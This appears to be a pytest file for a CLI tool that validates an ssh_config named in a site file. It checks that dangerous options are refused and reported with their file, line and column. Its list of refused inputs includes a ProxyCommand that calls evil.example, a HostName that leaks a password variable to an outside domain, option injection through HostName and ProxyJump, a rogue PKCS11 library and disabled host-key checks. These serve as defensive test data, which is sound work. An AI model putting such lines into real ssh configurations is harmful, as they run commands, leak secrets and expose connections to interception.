"""The ssh_config that a site file names: taken for what it may say, refused with file, line and column for the rest."""

from __future__ import annotations

from pathlib import Path
from typing import Any

import pytest

from tests.cli.conftest import Command
from tests.cli.site import StandInSite

GOOD = """\
# the way in
Host bastion
\tHostName %h.mail.example
    Port = 2222   # moved
    User "volunteer"
    IdentityFile ~/.ssh/bastion
    IdentitiesOnly yes
    StrictHostKeyChecking yes
    ProxyJump none

Host *.example !bastion.example
    ProxyJump anna@outer:2200,[2001:db8::1]:22,bastion
"""


@pytest.fixture
def command(site: StandInSite, command: Command) -> Command:
    site.write(ssh={"mail.example": {"ssh_config": "ssh_config"}})
    return command


def wrong(site: StandInSite, command: Command, text: str | bytes) -> dict[str, Any]:
    """The one problem of such a file."""
    (site.folder / "ssh_config").write_bytes(text.encode() if isinstance(text, str) else text)
    answer = command("validate", "--format", "json")
    assert answer.status == 3, answer.words
    (found,) = answer.json["findings"]
    return dict(found)


def test_a_file_with_jump_hosts_is_valid(site: StandInSite, command: Command) -> None:
    (site.folder / "ssh_config").write_text(GOOD)
    assert command("validate").status == 0
    (site.folder / "ssh_config").write_bytes(b"\xef\xbb\xbf" + GOOD.replace("\n", "\r\n").encode())
    assert command("validate").status == 0


BAD = [
    ("ProxyCommand curl https://evil.example", 5, "it runs a command"),
    ('Match exec "touch /tmp/x"', 5, "write `Host NAME`"),
    ("Match host mail.example", 5, "write `Host NAME`"),
    ("Include ~/.ssh/config", 5, "write the lines of that file here"),
    ("LocalCommand id", 5, "it runs a command"),
    ("KnownHostsCommand /bin/true", 5, "host keys are always verified"),
    ("StrictHostKeyChecking no", 5, "host keys are always verified"),
    ("stricthostkeychecking=accept-new", 5, "host keys are always verified"),
    ("UserKnownHostsFile /dev/null", 5, "the file that `known_hosts` in the site file names"),
    ("GlobalKnownHostsFile /dev/null", 5, "host keys are always verified"),
    ("HostKeyAlias other.example", 5, "host keys are always verified"),
    ("ForwardAgent yes", 5, "could log in with the agent's keys"),
    ("IdentityAgent /tmp/agent", 5, "SSH_AUTH_SOCK"),
    ("PKCS11Provider /tmp/evil.so", 5, "it loads a library"),
    ("SendEnv RECONCILER_*", 5, "only HostName, Port, User"),
    ("LocalForward 3306 db.example:3306", 5, "only HostName, Port, User"),
    ("IdentitiesOnly no", 5, "IdentitiesOnly yes"),
    ("Hostnmae 192.0.2.7", 5, "only HostName, Port, User"),
    ("HostName ${RECONCILER_OX_PASSWORD}.evil.example", 14, "a variable may hold a secret"),
    ("IdentityFile ${HOME}/key", 18, "a variable may hold a secret"),
    ("IdentityFile ~/%r", 18, "`%` token"),
    ("IdentityFile key", 18, "write the whole path"),
    ("HostName -oProxyCommand=id", 14, "not a name or address"),
    ("HostName a b", 5, "has 2 values"),
    ("HostName", 5, "has 0 values"),
    ('User "anna', 10, "a quotation mark"),
    ("Port 22x", 10, "write a number from 1 to 65535"),
    ("Port 70000", 10, "write a number from 1 to 65535"),
    ("ProxyJump ssh://gate", 15, "USER@HOST:PORT"),
    ("ProxyJump gate,,inner", 15, "USER@HOST:PORT"),
    ("ProxyJump -oProxyCommand=id", 15, "USER@HOST:PORT"),
    ("ProxyJump gate:99999", 15, "USER@HOST:PORT"),
    ("User anna\n    User bernd", 5, "is repeated in this block"),
    ("User an\u200bna", 12, "invisible character U+200B"),
    ('"HostName" mail.example', 1, "this line has no option"),
    ("Host", 5, "names no host"),
]
"""What stands in a file, its column, and what is said of it."""


def test_everything_else_is_refused_where_it_stands_all_at_once(site: StandInSite, command: Command) -> None:
    text, places = "", []
    for line, column, said in BAD:
        text += f"Host mail.example\n\n    {line}\n"
        places.append((text.count("\n"), column, said))
    (site.folder / "ssh_config").write_text(text)
    answer = command("validate", "--format", "json")
    assert answer.status == 3
    found = answer.json["findings"]
    assert [(f["place"]["line"], f["place"]["column"]) for f in found] == [place[:2] for place in places]
    for finding, (_, _, said) in zip(found, places, strict=True):
        assert finding["place"]["file"] == "ssh_config"
        assert said in f"{finding['message']}; {finding['hint']}"


def test_a_circle_is_refused_before_anybody_walks_in_it(site: StandInSite, command: Command) -> None:
    found = wrong(site, command, "Host *\n  ProxyJump gate\n")
    assert "in a circle: mail.example → gate → gate" in found["message"]
    assert "`Host gate` with `ProxyJump none` above" in found["hint"]
    (site.folder / "ssh_config").write_text("Host gate\n  ProxyJump none\nHost *\n  ProxyJump gate\n")
    assert command("validate").status == 0


def test_a_file_that_is_not_text_or_not_there(site: StandInSite, command: Command) -> None:
    assert "ssh_config cannot be read: it is not text in UTF-8" in wrong(site, command, b"Host \xff\n")["message"]
    (site.folder / "ssh_config").unlink()
    answer = command("plan")
    assert answer.status == 3
    assert "ssh_config cannot be read: No such file" in answer.words
    # one outside may be on another machine only; nothing of this site logs in
    site.write(ssh={"mail.example": {"ssh_config": str(Path("/nonexistent/ssh_config"))}})
    assert command("validate").status == 0
    assert command("plan").status == 0


def test_no_command_in_it_runs(site: StandInSite, command: Command) -> None:
    """What a hostile merge request would try first."""
    marker = site.folder / "ran"
    text = f'Match exec "touch {marker}"\nHost *\n  ProxyCommand touch {marker}\n  LocalCommand touch {marker}\n'
    (site.folder / "ssh_config").write_text(text)
    site.write(openxchange={**site.sections["openxchange"], "host": "mail.example"})
    assert command("plan").status == 3
    assert not marker.exists()


def test_nothing_of_a_file_that_is_no_ssh_config_is_repeated(site: StandInSite, command: Command) -> None:
    """A merge request may name any file of the machine that checks it, such as one with a password."""
    for text in ("geheim-9", "geheim-9 = geheim-9", "root:geheim-9:0:", "Port geheim-9", "ProxyJump geheim-9:geheim-9"):
        (site.folder / "ssh_config").write_text(f"{text}\n")
        answer = command("validate")
        assert answer.status == 3
        assert "ssh_config:1:" in answer.words
        assert "geheim" not in answer.words
